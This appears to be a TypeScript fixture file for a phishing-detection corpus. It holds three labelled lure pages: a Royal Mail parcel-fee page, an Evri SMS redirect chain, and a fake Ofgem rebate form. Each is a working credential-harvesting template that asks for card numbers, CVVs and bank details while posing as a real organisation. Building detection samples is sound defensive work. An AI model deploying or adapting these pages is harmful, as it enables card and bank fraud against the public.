/**
 * yi- courier fee and utility refund lures: Royal Mail, An Post, Australia Post, Evri, USPS,
 * energy-bill rebates and broadband compensation.
 */
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, wordmark } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-royalmail-shipping-fee-card',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://royalmail.redelivery-fee.com/track/RM?tn=GB429115806',
  body: doc({
    title: 'Royal Mail - Reschedule Delivery',
    css: `*{box-sizing:border-box}body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f2f2;color:#333}
.h{background:#da202a;padding:14px 26px;display:flex;align-items:center;gap:14px;color:#fff}.h .c{background:#fdda24;color:#da202a;font-weight:700;padding:6px 10px;border-radius:3px}
.m{max-width:620px;margin:24px auto;background:#fff;padding:26px}.st{display:flex;justify-content:space-between;font-size:13px;color:#666;margin:16px 0}
.st span.on{color:#da202a;font-weight:700}.box{background:#fff7d1;padding:12px;border:1px solid #e8cf6b}
label{display:block;font-weight:700;font-size:14px;margin:14px 0 4px}input,select{width:100%;padding:10px;border:1px solid #999;font-size:15px}
.r{display:flex;gap:12px}.r>div{flex:1}button{margin-top:20px;background:#da202a;color:#fff;border:0;padding:13px 22px;font-size:16px;font-weight:700;width:100%}`,
    body: `<div class="h"><span class="c">ROYAL MAIL</span><span>Track &amp; Redeliver</span></div>
<div class="m"><h2>Your item is being held</h2>
<div class="st"><span>Posted</span><span>In transit</span><span class="on">Held – fee due</span><span>Delivered</span></div>
<div class="box">Tracking number: <b id="tn">GB429115806</b><br>We attempted to deliver your parcel but a shipping fee of <b>£1.45</b> was unpaid. Your item will be returned to sender if the fee is not paid within 24 hours.</div>
<h3>Choose a redelivery date</h3><select name="date"><option>Tomorrow</option><option>In 2 days</option><option>Saturday</option></select>
<form method="post" action="/track/RM/pay.php">
<label>Full name</label><input name="name"><label>Address</label><input name="addr1"><div class="r"><div><label>Town</label><input name="town"></div><div><label>Postcode</label><input name="pc"></div></div>
<label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY"><label>Mobile</label><input name="phone">
<label>Card number</label><input name="ccn" inputmode="numeric" autocomplete="cc-number">
<div class="r"><div><label>Expiry</label><input name="ccexp" placeholder="MM/YY"></div><div><label>Security code</label><input name="cvv" maxlength="3"></div></div>
<button>Pay £1.45 and reschedule</button></form></div>
<script>var t=new URLSearchParams(location.search).get('tn');if(t)document.getElementById('tn').textContent=t;</script>`,
  }),
},
{
  id: 'yi-evri-sms-shortener-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://is.gd/EvriHeld7',
  routes: {
    'is.gd/EvriHeld7': redirectRoute(301, 'https://go.parcel-notices.com/r/3c91?src=sms'),
    'go.parcel-notices.com/r/3c91': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading…</title><meta http-equiv="refresh" content="2;url=https://evri.redeliver-uk.info/held/"></head><body style="font-family:Arial;text-align:center;padding-top:80px;color:#666">Please wait while we locate your parcel…<script>setTimeout(function(){location.replace('https://evri.redeliver-uk.info/held/?ref='+Date.now().toString(36))},600)</script></body></html>`),
    'evri.redeliver-uk.info/held/': htmlRoute(doc({
      title: 'Evri | Your parcel is on hold',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f4f9;color:#0f1741}.h{background:#0f1741;padding:16px 24px;color:#53efef;font-size:26px;font-weight:800}
.m{max-width:520px;margin:26px auto;background:#fff;padding:26px;border-radius:10px}input{width:100%;padding:11px;margin:6px 0 12px;border:1px solid #9aa;border-radius:6px;box-sizing:border-box}
button{width:100%;background:#007bc4;color:#fff;border:0;padding:13px;border-radius:6px;font-size:16px;font-weight:700}`,
      body: `<div class="h">evri</div><div class="m"><h2>We missed you!</h2><p>Your parcel is on hold at our depot due to an unpaid redelivery charge of <b>£0.89</b>. Please pay within 12 hours to arrange redelivery.</p>
<form method="post" action="/held/pay.php"><input name="fullname" placeholder="Full name"><input name="address" placeholder="Address"><input name="postcode" placeholder="Postcode"><input name="phone" placeholder="Phone number"><input name="cc" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>Pay £0.89</button></form></div>`,
    })),
  },
},
{
  id: 'yi-energy-bills-support-rebate-kit',
  label: 'phishing',
  kind: 'utility-refund-kit',
  url: 'https://ofgem-energyrebate.org.uk/apply/household',
  body: doc({
    title: 'Ofgem | Energy Bills Support Scheme – Apply for your £400 discount',
    css: `*{box-sizing:border-box}body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#fff;color:#222}
.h{background:#19365f;color:#fff;padding:18px 30px;display:flex;justify-content:space-between}.h b{font-size:26px}
.hero{background:#e8eef7;padding:26px 30px}.hero h1{margin:0;color:#19365f}
.m{max-width:680px;margin:24px auto;padding:0 20px}label{display:block;font-weight:700;margin:14px 0 5px}input,select{width:100%;padding:10px;border:1px solid #888;font-size:16px}
button{margin-top:20px;background:#e4572e;color:#fff;border:0;padding:14px 26px;font-size:17px;font-weight:700}
.s{font-size:13px;color:#666}`,
    body: `<div class="h"><b>ofgem</b><span>Making a positive difference for energy consumers</span></div>
<div class="hero"><h1>Energy Bills Support Scheme</h1><p>Households that have not yet claimed can still receive the £400 discount, paid directly to your bank account. Pensioner households may also qualify for the £300 Pensioner Cost of Living Payment.</p></div>
<div class="m"><form method="post" action="/apply/submit.php">
<label>Energy supplier</label><select name="supplier"><option>British Gas</option><option>EDF</option><option>E.ON Next</option><option>Octopus Energy</option><option>OVO</option><option>Scottish Power</option><option>SSE / OVO</option><option>Utility Warehouse</option></select>
<label>Full name</label><input name="name"><label>Date of birth</label><input name="dob"><label>Address and postcode</label><input name="address">
<label>Email</label><input name="email"><label>Bank name</label><input name="bank"><label>Sort code</label><input name="sortcode"><label>Account number</label><input name="accountnumber">
<label>Card number (to verify account ownership)</label><input name="cardnumber"><label>Expiry</label><input name="expiry"><label>CVV</label><input name="cvv">
<button>Apply for discount</button><p class="s">Ofgem is the Office of Gas and Electricity Markets. 10 South Colonnade, Canary Wharf, London E14 4PU.</p></form></div>`,
  }),
},
];
